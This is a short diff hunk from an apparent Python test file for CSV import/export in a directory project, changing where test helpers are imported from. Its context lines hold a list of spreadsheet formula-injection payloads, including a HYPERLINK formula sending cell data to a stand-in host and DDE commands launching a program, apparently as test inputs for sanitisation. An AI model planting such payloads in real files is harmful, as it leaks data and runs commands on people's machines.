@@ -20,7 +20,7 @@ from coordination.testing.factories import make_member, make_organisation, make_
 from export import publish
 from coordination.directory import imports
 from tests.directory.conftest import form_data
-from tests.export.test_import import csv_text, row
+from tests.directory.imports.helpers import csv_text, row
 
 CSV = "lieux-de-mediation-numerique.csv"
 FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
